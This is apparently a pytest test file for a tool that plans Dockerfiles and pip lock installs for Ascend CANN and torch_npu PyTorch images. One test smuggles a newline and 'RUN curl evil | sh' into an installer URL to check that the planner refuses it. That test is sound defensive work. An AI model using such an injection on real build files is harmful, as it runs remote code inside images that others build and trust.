"""builder.images.plan: every decision of a Dockerfile, as a typed value, with exact values
for the demo cell (Debian 12, Python 3.11 venv, torch 2.13.0, CANN 9.1.0 on 910b, x86_64),
and the Python steps each state of a cell's lock gives (ok, incomplete, missing, stale).

URLs are taken from the knowledge base and sha256 lines from the committed locks
(dockerfiles/<cell>/requirements.lock) rather than spelled out here; everything else is
written out literally.
"""

from __future__ import annotations

import dataclasses
import json
import re
from typing import Any, Dict

import pytest
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

from builder import knowledge, python_env, vocabulary
from builder.images import lock as locking
from builder.images import blocks, conda_lock, facts, matrix, plan, render
from builder.errors import UserError
from tests.support.matrix import SHIPPED_DOCKERFILES, SHIPPED_MATRIX, write_cells
from tests.support.knowledge import with_part

DEMO = "cann9.1.0-910b-debian12-py3.11-torch_npu2.13.0-x86_64"
CELL_7 = "cann7.0.rc1-910b-ubuntu22.04-py3.9-torch_npu2.1.0rc1-x86_64"      # lock incomplete: torch==2.1.0+cpu
CELL_7_ARM = "cann7.0.rc1-910b-ubuntu22.04-py3.9-torch_npu2.1.0rc1-aarch64"  # lock complete, conda
HOME = "/usr/local/Ascend/cann-9.1.0"
DRIVER = "/usr/local/Ascend/driver/lib64"
DIGEST = "0123456789abcdef"
SHIPPED = ("smoke.py", "parsers.py", "error_table.py", "versions.py", "vocabulary.py", "errors.json")
GUARD_REQUIREMENT = (("ASCEND_REQUIRE_DRIVER", "25.2.RC1"), ("ASCEND_REQUIRE_FIRMWARE", ""))
FIELD_GUIDE_ENV = (("ASCEND_GLOBAL_LOG_LEVEL", "3"), ("HCCL_CONNECT_TIMEOUT", "1800"),
                   ("PYTORCH_NPU_ALLOC_CONF", "expandable_segments:True"))
LOCK_PATH = "/etc/ascend-build/requirements.lock"
GUARD = '    if [ "${ASCEND_BUILD_ALLOW_UNVERIFIED}" != 1 ]; then \\'
HASH_LINE = re.compile(r"^    --hash=sha256:[0-9a-f]{64}( \\)?$")
# CANN 7.0.RC1's cell without a usable lock: every top-level requirement, CANN's limits on
# the packages it bounds (numpy<2, protobuf 3.20.x, setuptools<82), conda's wheel.
UNLOCKED_7 = ("attrs", "cython", "numpy<2", "decorator", "sympy", "cffi", "pyyaml", "pathlib2", "psutil",
              "protobuf<3.21,>=3.20", "scipy", "requests", "absl-py", "torch==2.1.0+cpu", "pip", "setuptools<82",
              "wheel")


def manifest(*args, **kwargs) -> Dict[str, Any]:
    """`plan.manifest`, read as the JSON document it is written as."""
    return plan.manifest(*args, **kwargs)


@pytest.fixture(scope="module")
def kb():
    return knowledge.load()


@pytest.fixture(scope="module")
def shipped():
    return {c.id: c for c in matrix.load(SHIPPED_MATRIX).cells}


@pytest.fixture(scope="module")
def demo(shipped):
    return shipped[DEMO]


@pytest.fixture(scope="module")
def cell7(shipped):
    return shipped[CELL_7]


def _committed_lock(cell_id: str) -> locking.Lock:
    found = locking.read(SHIPPED_DOCKERFILES / cell_id)
    assert found is not None, f"dockerfiles/{cell_id}/requirements.lock is missing"
    return found


@pytest.fixture(scope="module")
def demo_lock():
    return _committed_lock(DEMO)


@pytest.fixture(scope="module")
def lock7():
    return _committed_lock(CELL_7)


def _lines(entries) -> tuple:
    return tuple(line for e in entries for line in e.lines())


def _fields(p: plan.Plan) -> dict:
    """The plan's own fields but its blocks (each test compares those one by one)."""
    return {f.name: getattr(p, f.name) for f in dataclasses.fields(p) if f.name != "blocks"}


def _common_labels(variant: str):
    return (
        ("io.ascend-build.cell", DEMO),
        ("io.ascend-build.variant", variant),
        ("io.ascend-build.os", "debian12"),
        ("io.ascend-build.arch", "x86_64"),
        ("io.ascend-build.python", "3.11"),
        ("io.ascend-build.torch", "2.13.0"),
        ("io.ascend-build.content-hash", DIGEST),
        ("io.ascend-build.lock", "ok"),
    )


def test_the_demo_cells_npu_plan(demo, demo_lock, kb):
    folder = "https://ascend-repo.obs.cn-east-2.myhuaweicloud.com/CANN/CANN%209.1.0/"
    toolkit, ops = "Ascend-cann-toolkit_9.1.0_linux-x86_64.run", "Ascend-cann-910b-ops_9.1.0_linux-x86_64.run"
    # CANN 9.1.0's .run files are published without a sha256, and this lock has none recorded
    toolkit_file = plan.InstallerFile(toolkit, folder + toolkit, "", toolkit)
    ops_file = plan.InstallerFile(ops, folder + ops, "", ops, kind="ops")
    closure = plan.Install("closure", "lock.closure.txt", _lines(demo_lock.without("torch-npu")), True)
    torch_npu = plan.Install("torch_npu", "lock.torch_npu.txt", tuple(demo_lock.entry("torch-npu").lines()), True)
    p = plan.plan(demo, kb, "npu", DIGEST, demo_lock)
    assert _fields(p) == {
        "cell_id": DEMO,
        "variant": "npu",
        "dockerfile": "Dockerfile",
        "manifest_file": "manifest.json",
        "lock_state": "ok",
        "steps": ("os", "cann", "python", "closure", "chip", "torch_npu", "env", "files"),
        "installs": (closure, torch_npu),
        "uv": kb.downloads.uv_requirement("x86_64"),
        "conda_explicit": "",
        "scripts": (),
        "base_image": "debian:bookworm-slim",
    }
    assert p.blocks == (
        blocks.Header(DEMO, "matrix/default.yaml", False, "Dockerfile", "debian:bookworm-slim", ""),
        blocks.ContextInputs("wheelhouse", ""),
        blocks.BaseOs("apt", ("bash", "ca-certificates", "curl", "unzip", "python3", "python3-venv",
                              "gcc", "g++", "make", "libc6-dev", "libgomp1", "libnuma1"), 1, "os", "bookworm", "main"),
        blocks.UvStage("uv.txt", False),
        # the chip's package installs in step 5, and torch_npu's layer is the same bytes on every chip
        blocks.CannInstallers("9.1.0", "910b", "installer", 2, (toolkit_file, ops_file), "debian:bookworm-slim",
                              "https://www.hiascend.com/", 5, True),
        blocks.CannEnv((
            ("ASCEND_TOOLKIT_HOME", HOME),
            ("ASCEND_HOME_PATH", "${ASCEND_TOOLKIT_HOME}"),
            ("ASCEND_AICPU_PATH", "${ASCEND_TOOLKIT_HOME}"),
            ("ASCEND_OPP_PATH", "${ASCEND_TOOLKIT_HOME}/opp"),
            ("TOOLCHAIN_HOME", "${ASCEND_TOOLKIT_HOME}/toolkit"),
            ("LD_LIBRARY_PATH", "${ASCEND_TOOLKIT_HOME}/lib64:${ASCEND_TOOLKIT_HOME}/lib64/plugin/opskernel:"
                                "${ASCEND_TOOLKIT_HOME}/lib64/plugin/nnengine"),
            ("LD_LIBRARY_PATH", "${LD_LIBRARY_PATH}:${ASCEND_TOOLKIT_HOME}/opp/built-in/op_impl/ai_core/tbe/op_tiling"),
            ("LD_LIBRARY_PATH", "${LD_LIBRARY_PATH}:${ASCEND_TOOLKIT_HOME}/tools/aml/lib64:"
                                "${ASCEND_TOOLKIT_HOME}/tools/aml/lib64/plugin"),
            ("LD_LIBRARY_PATH", f"${{LD_LIBRARY_PATH}}:{DRIVER}:{DRIVER}/common:{DRIVER}/driver"),
            ("PYTHONPATH", "${ASCEND_TOOLKIT_HOME}/python/site-packages:${ASCEND_TOOLKIT_HOME}/opp/built-in/op_impl/ai_core/tbe"),
            ("PATH", "${ASCEND_TOOLKIT_HOME}/bin:${ASCEND_TOOLKIT_HOME}/compiler/ccec_compiler/bin:"
                     "${ASCEND_TOOLKIT_HOME}/tools/ccec_compiler/bin:${PATH}"),
            ("PATH", "${PATH}:${ASCEND_TOOLKIT_HOME}/tools/profiler/bin:${ASCEND_TOOLKIT_HOME}/python/site-packages/bin"),
        )),
        blocks.PythonEnvironment("venv", "3.11", "/opt/venv", 3),
        blocks.LockedPackages("closure", "lock.closure.txt", 4, "/opt/venv", False),
        blocks.ChipPackages("910b", 5, (ops_file,), True),
        blocks.LockedPackages("torch_npu", "lock.torch_npu.txt", 6, "/opt/venv", True),
        blocks.EnvDefaults(7, FIELD_GUIDE_ENV),
        blocks.ShippedFiles(8, "manifest.json", "requirements.lock", SHIPPED, "driver_guard.py", "/opt/ascend-build",
                            "/usr/local/bin/ascend-driver-guard", "/etc/ascend-build/manifest.json", LOCK_PATH),
        blocks.DriverGuard(GUARD_REQUIREMENT, "/usr/local/bin/ascend-driver-guard"),
        blocks.ImageLabels((
            ("org.opencontainers.image.title", f"ascend-build/pytorch:{DEMO}"),
            ("org.opencontainers.image.description", "PyTorch 2.13.0 + torch_npu 2.13.0 on CANN 9.1.0 for 910b"),
            ("org.opencontainers.image.version", DEMO),
            *_common_labels("npu"),
            ("io.ascend-build.cann", "9.1.0"),
            ("io.ascend-build.chip", "910b"),
            ("io.ascend-build.torch-npu", "2.13.0"),
            ("io.ascend-build.min-driver", "25.2.RC1"),
            ("io.ascend-build.min-firmware", ""),
        )),
    )
    assert (p.base_image, p.installers, p.conda_file) == ("debian:bookworm-slim", (toolkit_file, ops_file), "")


def test_a_sha256_recorded_in_the_lock_is_the_one_the_download_must_match(demo, demo_lock, kb):
    recorded = dataclasses.replace(demo_lock, installers=(
        ("Ascend-cann-910b-ops_9.1.0_linux-x86_64.run", "b" * 64),
        ("Ascend-cann-toolkit_9.1.0_linux-x86_64.run", "a" * 64)))
    assert [f.sha256 for f in plan.plan(demo, kb, "npu", DIGEST, recorded).installers] == ["a" * 64, "b" * 64]
    assert plan.unrecorded_installers(demo, kb, recorded) == ()
    assert plan.unrecorded_installers(demo, kb, demo_lock) == ("Ascend-cann-toolkit_9.1.0_linux-x86_64.run",
                                                               "Ascend-cann-910b-ops_9.1.0_linux-x86_64.run")


def test_the_demo_cells_cpu_twin_plan(demo, demo_lock, kb):
    """The twin: the same OS (fewer packages), Python and closure; no CANN, no torch_npu."""
    closure = plan.Install("closure", "lock.closure.txt", _lines(demo_lock.without("torch-npu")), True)
    p = plan.plan(demo, kb, "cpu", DIGEST, demo_lock)
    assert _fields(p) == {
        "cell_id": DEMO,
        "variant": "cpu",
        "dockerfile": "Dockerfile.cpu",
        "manifest_file": "manifest.cpu.json",
        "lock_state": "ok",
        "steps": ("os", "python", "closure", "env", "files"),
        "installs": (closure,),
        "uv": kb.downloads.uv_requirement("x86_64"),
        "conda_explicit": "",
        "scripts": (),
        "base_image": "debian:bookworm-slim",
    }
    assert p.blocks == (
        blocks.Header(DEMO, "matrix/default.yaml", True, "Dockerfile.cpu", "debian:bookworm-slim", ""),
        blocks.ContextInputs("wheelhouse", ""),
        blocks.BaseOs("apt", ("bash", "ca-certificates", "curl", "python3", "python3-venv", "libgomp1"), 1, "os",
                      "bookworm", "main"),
        blocks.UvStage("uv.txt", True),  # no CANN stage follows: back to the OS stage
        blocks.PythonEnvironment("venv", "3.11", "/opt/venv", 2),
        blocks.LockedPackages("closure", "lock.closure.txt", 3, "/opt/venv", False),
        blocks.EnvDefaults(4, FIELD_GUIDE_ENV),
        blocks.ShippedFiles(5, "manifest.cpu.json", "requirements.lock"),
        blocks.DriverGuard(GUARD_REQUIREMENT),  # the twin states its NPU image's requirement: the guard runs where no NPU is
        blocks.ImageLabels((
            ("org.opencontainers.image.title", f"ascend-build/pytorch:{DEMO}-cpu"),
            ("org.opencontainers.image.description", f"CPU twin of {DEMO}: PyTorch 2.13.0 without CANN"),
            ("org.opencontainers.image.version", f"{DEMO}-cpu"),
            *_common_labels("cpu"),
        )),
    )
    assert (p.installers, p.find(blocks.CannInstallers), p.find(blocks.CannEnv)) == ((), None, None)


def test_the_blocks_of_a_plan_are_in_the_order_of_the_list(shipped, kb):
    """Every plan's blocks come in the order `blocks.ORDER` lists, the Python steps and the chip's
    packages among themselves in the order of the plan's steps; each numbered block holds its number."""
    rank = {kind: (n if kind not in blocks.STEPS else blocks.ORDER.index(blocks.STEPS[0]))
            for n, kind in enumerate(blocks.ORDER)}
    for cell in shipped.values():
        for variant in vocabulary.VARIANTS:
            p = plan.plan(cell, kb, variant, DIGEST, _committed_lock(cell.id))
            kinds = [type(b) for b in p.blocks]
            assert [rank[k] for k in kinds] == sorted(rank[k] for k in kinds), (cell.id, variant)
            assert [b.number for b in p.blocks if hasattr(b, "number")] == list(range(1, len(p.steps) + 1))


def test_derived_values(demo, demo_lock, kb):
    npu, cpu = (plan.plan(demo, kb, v, DIGEST, demo_lock) for v in vocabulary.VARIANTS)
    # the twin installs the NPU image's steps minus torch_npu: the same closure, byte for byte
    assert [i.step for i in npu.installs] == ["closure", "torch_npu"]
    assert cpu.installs == tuple(i for i in npu.installs if i.step != "torch_npu")
    assert cpu.installs[0].text == npu.installs[0].text
    assert npu.installs[1].names == ("torch-npu",) and "torch-npu" not in cpu.installs[0].names
    # the chip's package between the closure and torch_npu: chips share all below it, a bump moves neither
    assert (npu.number("os"), npu.number("closure"), npu.number("chip"), npu.number("torch_npu"),
            npu.number("files")) == (1, 4, 5, 6, 8)
    assert (cpu.number("os"), cpu.number("closure"), cpu.number("files")) == (1, 3, 5)
    assert plan.ALLOW_UNVERIFIED == "ASCEND_BUILD_ALLOW_UNVERIFIED"
    assert npu.unverified == cpu.unverified == ()
    with pytest.raises(ValueError):
        cpu.number("torch_npu")


def test_install_files_are_the_lock_as_pip_reads_it(demo, demo_lock, kb):
    """The closure file is the lock's entries but torch_npu, each `name==version \\` followed by
    its --hash lines (the last without a continuation); read back, it is the lock's entries."""
    closure, torch_npu = plan.plan(demo, kb, "npu", DIGEST, demo_lock).installs
    names = sorted(e.name for e in demo_lock.entries)
    assert "torch" in names and "torch-npu" in names and len(names) > 20
    assert sorted(closure.names) == [n for n in names if n != "torch-npu"]
    assert "torch==2.13.0+cpu \\" in closure.lines  # the CPU build of x86_64, hashed from the wheelhouse
    assert torch_npu.lines[0] == "torch-npu==2.13.0 \\" and len(torch_npu.lines) > 1
    for install in (closure, torch_npu):
        text = install.text.decode()
        assert text.endswith("\n") and not text.endswith("\\\n")
        for line in install.lines:
            assert HASH_LINE.match(line) or re.fullmatch(r"[a-z0-9][a-z0-9.-]*==[A-Za-z0-9.+!_-]+ \\", line), line
        assert not install.lines[-1].endswith("\\")
        assert locking.Lock.parse("# inputs: -\n" + text).entries == \
            tuple(e for e in demo_lock.entries if e.name in install.names)


def test_a_plan_is_frozen_and_variants_are_checked(demo, kb):
    p = plan.plan(demo, kb, "cpu", DIGEST)
    with pytest.raises(dataclasses.FrozenInstanceError):
        p.base_image = "other:1"  # type: ignore[misc]
    with pytest.raises(ValueError, match="unknown variant"):
        plan.plan(demo, kb, "gpu", DIGEST)


def test_final_env_is_literal(demo):
    """What the manifest records: Docker's expansion of ${ASCEND_TOOLKIT_HOME} and of the
    LD_LIBRARY_PATH built up in three lines; PATH (refers to the base image's) left out."""
    assert plan.final_env(demo, "npu", knowledge.load()) == {
        "ASCEND_TOOLKIT_HOME": HOME,
        "ASCEND_HOME_PATH": HOME,
        "ASCEND_AICPU_PATH": HOME,
        "ASCEND_OPP_PATH": f"{HOME}/opp",
        "TOOLCHAIN_HOME": f"{HOME}/toolkit",
        "LD_LIBRARY_PATH": f"{HOME}/lib64:{HOME}/lib64/plugin/opskernel:{HOME}/lib64/plugin/nnengine:"
                           f"{HOME}/opp/built-in/op_impl/ai_core/tbe/op_tiling:{HOME}/tools/aml/lib64:"
                           f"{HOME}/tools/aml/lib64/plugin:{DRIVER}:{DRIVER}/common:{DRIVER}/driver",
        "PYTHONPATH": f"{HOME}/python/site-packages:{HOME}/opp/built-in/op_impl/ai_core/tbe",
        "ASCEND_GLOBAL_LOG_LEVEL": "3",
        "HCCL_CONNECT_TIMEOUT": "1800",
        "PYTORCH_NPU_ALLOC_CONF": "expandable_segments:True",
        **dict(GUARD_REQUIREMENT),
    }
    assert plan.final_env(demo, "cpu", knowledge.load()) == {**dict(FIELD_GUIDE_ENV), **dict(GUARD_REQUIREMENT)}
    tuned = dataclasses.replace(demo, env_vars=(("LD_LIBRARY_PATH", "/opt/mine"),))
    assert plan.final_env(tuned, "npu", knowledge.load())["LD_LIBRARY_PATH"] == "/opt/mine"  # the cell's value wins
    assert manifest(demo, "npu", DIGEST, knowledge.load())["env"] == plan.final_env(demo, "npu", knowledge.load())


def test_manifest_names_the_twin_by_its_release_tag(demo):
    npu, cpu = manifest(demo, "npu", DIGEST, knowledge.load()), manifest(demo, "cpu", DIGEST, knowledge.load())
    assert (npu["image"], cpu["image"]) == (f"ascend-build/pytorch:{DEMO}", f"ascend-build/pytorch:{DEMO}-cpu")
    assert (cpu["chip"], cpu["cann_version"], cpu["torch_npu_version"], cpu["min_driver"]) == (None, None, None, None)
    assert (npu["content_hash"], cpu["content_hash"]) == (DIGEST, DIGEST)


def test_other_sources_and_extras(tmp_path, kb):
    ref = "local/cann:8.0.rc3@sha256:" + "1" * 64
    path, _ = write_cells(
        tmp_path,
        {"name": "img", "os": "ubuntu22.04", "arch": "aarch64", "chip": "910b", "cann": "8.0.RC3", "python": "3.10",
         "torch_npu": "2.4.0", "cann_source": {"image": ref}, "pip": ["six==1.16.0"], "base_image": "local/ubuntu:22.04"},
        {"name": "euler", "os": "openeuler22.03", "arch": "aarch64", "chip": "910b", "cann": "8.0.RC3", "python": "3.9",
         "torch_npu": "2.4.0"})
    image, euler = matrix.load(path).cells
    npu, cpu = plan.plan(image, kb, "npu", DIGEST), plan.plan(image, kb, "cpu", DIGEST)
    assert (npu.base_image, npu.block(blocks.CannInstallers).source, npu.installers) == (ref, "image", ())
    assert cpu.base_image == "local/ubuntu:22.04"  # the twin has no CANN: it starts from the OS
    # no lock yet: every requirement in one unverified step, torch_npu in its own
    assert (npu.lock_state, cpu.lock_state) == ("missing", "missing")
    assert npu.steps == ("os", "cann", "python", "unverified", "torch_npu", "env", "files")
    assert cpu.steps == ("os", "python", "unverified", "env", "files")
    assert npu.block(blocks.UnverifiedPackages).torch_index == ""  # aarch64: torch from PyPI
    unverified, torch_npu = npu.installs
    assert "torch==2.4.0" in unverified.lines and "six==1.16.0" in unverified.lines  # the cell's extra pin
    assert not any("+cpu" in line for line in unverified.lines)
    assert torch_npu.lines == ("torch-npu==2.4.0",)
    assert cpu.installs == (unverified,)
    conda = kb.downloads.conda_installer("aarch64")
    e = plan.plan(euler, kb, "cpu", DIGEST)
    env = e.python_environment
    assert (e.block(blocks.BaseOs).family, env.manager, env.prefix) == ("dnf", "conda", "/opt/conda/envs/ascend")
    assert (env.installer_url, env.installer_sha256, e.conda_file) == (conda.url, conda.sha256, conda.filename)
    assert (e.block(blocks.ShippedFiles).lock_file, e.block(blocks.ShippedFiles).lock_path) == ("", LOCK_PATH)  # nothing to copy without a lock
    assert e.installs[0].lines[-3:] == ("pip", "setuptools<82", "wheel")  # conda's environment has wheel


def test_knowledge_base_values_are_checked_again(demo, kb):
    """A value from builder/data/ that could change a Dockerfile's structure is refused."""

    def cann_release(cann):  # where the installers' URLs start
        release = kb.downloads.cann_release(cann)
        return dataclasses.replace(release, folder=release.folder + "'\nRUN curl evil | sh/")

    hostile = with_part(kb, "downloads", cann_release=cann_release)
    with pytest.raises(UserError, match="installer URL"):
        plan.plan(demo, hostile, "npu", DIGEST)
    assert plan.plan(demo, hostile, "cpu", DIGEST).installers == ()  # the twin has none to refuse


def test_formatting_asks_the_knowledge_base_nothing(demo, demo_lock, kb, monkeypatch):
    """Once planned, the Dockerfile and the install files are made from the plan alone."""
    p = plan.plan(demo, kb, "npu", render.content_hash(demo, demo_lock), demo_lock)

    def refuse(*args, **kwargs):
        raise AssertionError("the knowledge base was asked while formatting")

    monkeypatch.setattr(knowledge, "load", refuse)
    files = render.render_cell(demo, kb, demo_lock)
    assert render.dockerfile(p) == files["Dockerfile"]
    assert [files[i.file] for i in p.installs] == [i.text for i in p.installs]
    assert files["lock.torch_npu.txt"].startswith(b"torch-npu==2.13.0 \\\n    --hash=sha256:")


def test_render_writes_what_the_plans_say(demo, demo_lock, kb):
    files = render.render_cell(demo, kb, demo_lock)
    digest = render.content_hash(demo, demo_lock)
    for variant in vocabulary.VARIANTS:
        p = plan.plan(demo, kb, variant, digest, demo_lock)
        assert files[p.dockerfile] == render.dockerfile(p)
        assert json.loads(files[p.manifest_file]) == manifest(demo, variant, digest, kb, demo_lock)
        for install in p.installs:
            assert files[install.file] == install.text
    assert files["requirements.lock"] == demo_lock.text().encode()
    assert set(vocabulary.SHIPPED_FILES) <= set(files)
    # what the folder holds beside the shipped files: Dockerfiles, manifests, the lock and its steps' files
    assert sorted(set(files) - set(vocabulary.SHIPPED_FILES)) == [
        "Dockerfile", "Dockerfile.cpu", "lock.closure.txt", "lock.torch_npu.txt", "manifest.cpu.json", "manifest.json",
        "requirements.lock", "uv.txt"]
    assert files["uv.txt"] == (kb.downloads.uv_requirement(demo.arch) + "\n").encode()


# --- the cell's lock: its state decides the Python steps -------------------------------------


def _lock_file(p: plan.Plan) -> str:
    """The lock file the image copies in ("" when it has no usable lock)."""
    return p.block(blocks.ShippedFiles).lock_file


def _dockerfile(cell, kb, variant, lock) -> str:
    return render.dockerfile(plan.plan(cell, kb, variant, DIGEST, lock)).decode()


def _pip_lines(text: str):
    """Each install command, its continuation lines joined (uv's and pip's), without the
    variables set for it alone (torch_npu's SOURCE_DATE_EPOCH)."""
    commands = (re.sub(r"^(?:[A-Z_]+=\S+ )+", "", " ".join(part.split()))
                for line in text.replace("\\\n", " ").splitlines() for part in line.split(" && "))
    return [c for c in commands if c.startswith(("pip install", "/opt/uv/bin/uv pip install"))]


def _uv(env: str, file: str) -> str:
    return (f"/opt/uv/bin/uv pip install --python {env}/bin/python --require-hashes --no-deps --compile-bytecode "
            f"--cache-dir /tmp/uv-cache --link-mode=copy --find-links /wheelhouse ${{PIP_INDEX_URL:+--index-url \"$PIP_INDEX_URL\"}} "
            f"${{PIP_NO_INDEX:+--no-index}} -r /tmp/{file}")


def test_the_committed_locks_are_current(shipped, kb):
    """Every shipped cell has a lock made from its current inputs; x86_64's torch==X+cpu lacks its
    sha256 where the PyTorch CPU index cannot be reached, except the demo cell's (the wheelhouse had it),
    and every conda cell's conda part is incomplete: no conda channel answers where they were made."""
    states = {cell_id: plan.plan(cell, kb, "npu", DIGEST, _committed_lock(cell_id)).lock_state
              for cell_id, cell in shipped.items()}
    assert len(states) == 13 and set(states.values()) <= {"ok", "incomplete"}
    assert states[DEMO] == "ok"  # the venv cell: nothing of conda, torch from the wheelhouse
    for cell_id, state in states.items():
        made = _committed_lock(cell_id)
        # what lacks a sha256: x86_64's torch==X+cpu, never an aarch64 one's or the demo cell's
        assert [e.name for e in made.incomplete] == (["torch"] if cell_id.endswith("-x86_64") and cell_id != DEMO else [])
        if shipped[cell_id].env == "conda":
            assert made.conda is not None and not made.conda.complete and made.conda.packages == ()
            assert made.conda.note.startswith("the conda channel https://conda.anaconda.org/conda-forge could not be reached")
            assert state == "incomplete" and made.unpinned == (), cell_id


def _conda_completed(lock: locking.Lock) -> locking.Lock:
    """``lock`` with a complete conda part, as `ascend-build lock` writes it where the channel answers."""
    return dataclasses.replace(lock, conda=conda_lock.Part(conda_lock.DEFAULT_CHANNEL, (
        conda_lock.Package("python", "3.9.18", "h0_cpython", "linux-aarch64/python-3.9.18-h0_cpython.conda", "1" * 64),
        conda_lock.Package("pip", "24.0", "pyhd8ed1ab_0", "noarch/pip-24.0-pyhd8ed1ab_0.conda", "2" * 64))))


def test_the_committed_locks_keep_to_canns_limits(shipped):
    for cell_id, cell in shipped.items():
        versions = {e.name: e.version for e in _committed_lock(cell_id).entries}
        for limit in python_env.constraints(cell.cann):
            assert limit.allows(versions[limit.name]), (cell_id, limit.requirement, versions[limit.name])
    assert {e.name: e.version for e in _committed_lock(CELL_7).entries}["numpy"].startswith("1.")  # numpy<2


@pytest.mark.parametrize("cell_id", [DEMO, CELL_7_ARM])
def test_a_complete_lock_installs_only_hashed_files(shipped, kb, cell_id):
    cell, lock = shipped[cell_id], _committed_lock(cell_id)
    if cell.env == "conda":  # its conda part completed, as where the channel answers
        lock = _conda_completed(lock)
    for variant, steps in (("npu", ["closure", "torch_npu"]), ("cpu", ["closure"])):
        p = plan.plan(cell, kb, variant, DIGEST, lock)
        assert p.lock_state == "ok" and _lock_file(p) == "requirements.lock"
        assert [i.step for i in p.installs] == steps and all(i.verified and not i.resolve for i in p.installs)
        text = _dockerfile(cell, kb, variant, lock)
        assert _pip_lines(text) == [_uv(p.python_environment.prefix, i.file) for i in p.installs]
        assert p.uv == kb.downloads.uv_requirement(cell.arch) and p.uv.startswith("uv==")
        assert "ALLOW_UNVERIFIED" not in text and "NOT VERIFIED" not in text and "torch_index" not in text
        assert f"COPY requirements.lock {LOCK_PATH}\n" in text
        assert 'io.ascend-build.lock="ok"' in text
        if cell.env == "conda":
            assert "/opt/conda/bin/conda create -y -p /opt/conda/envs/ascend --offline --file /tmp/conda-pkgs/explicit.txt" in text
            assert "'python=" not in text


def _without_hashes(lock: locking.Lock, name: str, note: str) -> locking.Lock:
    return dataclasses.replace(lock, entries=tuple(
        dataclasses.replace(e, hashes=(), note=note) if e.name == name else e for e in lock.entries))


def test_an_incomplete_lock_refuses_what_it_could_not_verify(demo, demo_lock, kb):
    """One entry without a sha256: it gets its own step, refused unless the build arg is given,
    still --no-deps (the lock pinned its dependencies); the rest stays verified."""
    lock = _without_hashes(demo_lock, "numpy", "its index could not be reached")
    numpy = f"numpy=={demo_lock.entry('numpy').version}"
    npu, cpu = (plan.plan(demo, kb, v, DIGEST, lock) for v in vocabulary.VARIANTS)
    assert (npu.lock_state, _lock_file(npu)) == ("incomplete", "requirements.lock")  # still installed into the image
    assert npu.steps == ("os", "cann", "python", "closure", "unverified", "chip", "torch_npu", "env", "files")
    closure, unverified, torch_npu = npu.installs
    assert unverified == plan.Install("unverified", "lock.unverified.txt", (numpy,), False, False,
                                      "numpy: its index could not be reached")
    assert npu.unverified == (unverified,) and unverified.names == ("numpy",)
    assert "numpy" not in closure.names and closure.verified and torch_npu.verified
    assert cpu.installs == (closure, unverified)
    text = _dockerfile(demo, kb, "npu", lock)
    block = text[text.index("# 5. NOT VERIFIED"):text.index("# 6. The 910b operator package")]
    assert block == f"""\
# 5. NOT VERIFIED: numpy. numpy: its index could not be reached.
#    Refused unless the build is asked: --build-arg ASCEND_BUILD_ALLOW_UNVERIFIED=1.
ARG ASCEND_BUILD_ALLOW_UNVERIFIED=0
# hadolint ignore=DL3013
RUN --mount=type=secret,id=buildenv --mount=type=secret,id=ca \\
    --mount=type=bind,from=wheelhouse,target=/wheelhouse \\
    --mount=type=bind,source=lock.unverified.txt,target=/tmp/lock.unverified.txt \\
    if [ -s /run/secrets/buildenv ]; then . /run/secrets/buildenv; fi && \\
{GUARD}
        echo "refusing to install numpy without a sha256 (pass --build-arg ASCEND_BUILD_ALLOW_UNVERIFIED=1 to allow it)" >&2; exit 1; \\
    fi && \\
    torch_index="${{TORCH_INDEX:-{facts.PYTORCH_CPU_INDEX}}}" && \\
    mkdir -p {vocabulary.INSTALLED_DIR} && \\
    pip install --no-deps --find-links /wheelhouse ${{torch_index:+--extra-index-url "$torch_index"}} \\
        --report {vocabulary.INSTALLED_DIR}/unverified.json -r /tmp/lock.unverified.txt

"""
    assert _pip_lines(text)[0] == _uv("/opt/venv", "lock.closure.txt")  # the closure, before it
    assert _pip_lines(text)[2] == _uv("/opt/venv", "lock.torch_npu.txt")  # torch_npu, after it
    assert 'io.ascend-build.lock="incomplete"' in text
    assert GUARD in _dockerfile(demo, kb, "cpu", lock)


def test_the_committed_incomplete_lock_names_x86_64_torch(cell7, lock7, kb):
    npu = plan.plan(cell7, kb, "npu", DIGEST, lock7)
    assert [i.step for i in npu.installs] == ["closure", "unverified", "torch_npu"]
    assert npu.installs[1].lines == ("torch==2.1.0+cpu",) and not npu.installs[1].resolve
    assert npu.installs[1].reason.startswith("torch: torch 2.1.0+cpu is served by https://download.pytorch.org/whl/cpu")
    assert npu.installs[2].lines[0] == "torch-npu==2.1.0rc1 \\" and npu.installs[2].verified


def test_without_a_lock_every_requirement_is_unverified_and_resolved(cell7, kb):
    """No lock: pip resolves the top-level requirements within CANN's limits, refused unless asked."""
    reason = "The cell's lock is missing: run `ascend-build lock`"
    npu, cpu = (plan.plan(cell7, kb, v, DIGEST) for v in vocabulary.VARIANTS)
    assert (npu.lock_state, _lock_file(npu), cpu.lock_state) == ("missing", "", "missing")
    assert npu.installs == (
        plan.Install("unverified", "lock.unverified.txt", UNLOCKED_7, False, True, reason),
        plan.Install("torch_npu", "lock.torch_npu.txt", ("torch-npu==2.1.0rc1",), False, True, reason),
    )
    assert cpu.installs == npu.installs[:1]
    assert "numpy<2" in npu.installs[0].text.decode().splitlines()  # CANN 7.0.RC1's limit
    for variant, count in (("npu", 3), ("cpu", 2)):  # the conda environment's step is one of them
        text = _dockerfile(cell7, kb, variant, None)
        assert text.count(GUARD + "\n") == count
        assert "--no-deps" not in text and "--require-hashes" not in text and "requirements.lock" not in text
        assert _pip_lines(text) == [
            f'pip install --find-links /wheelhouse ${{torch_index:+--extra-index-url "$torch_index"}} '
            f'--report {vocabulary.INSTALLED_DIR}/{i.step}.json -r /tmp/{i.file}'
            for i in (npu if variant == "npu" else cpu).installs]
        assert 'io.ascend-build.lock="missing"' in text
    text = _dockerfile(cell7, kb, "npu", None)
    assert f"# 4. NOT VERIFIED: {', '.join(Requirement(r).name for r in UNLOCKED_7)}. {reason}.\n" in text
    assert "# 5. The 910b operator package.\n" in text and "# 6. NOT VERIFIED: torch-npu. " in text


def test_a_stale_lock_is_no_lock(cell7, lock7, kb):
    """A lock made from other inputs (here: the cell gained a pin) is not installed: the steps
    are those without a lock, and the image says its lock was stale."""
    pinned = dataclasses.replace(cell7, pip=("six==1.16.0",))
    assert plan.lock_inputs(pinned, kb).digest != lock7.inputs
    missing = plan.plan(pinned, kb, "npu", DIGEST)
    stale = plan.plan(pinned, kb, "npu", DIGEST, lock7)
    assert (stale.lock_state, _lock_file(stale)) == ("stale", "")
    assert [dataclasses.replace(i, reason="") for i in stale.installs] == \
        [dataclasses.replace(i, reason="") for i in missing.installs]
    assert {i.reason for i in stale.installs} == {"The cell's lock is stale: run `ascend-build lock`"}
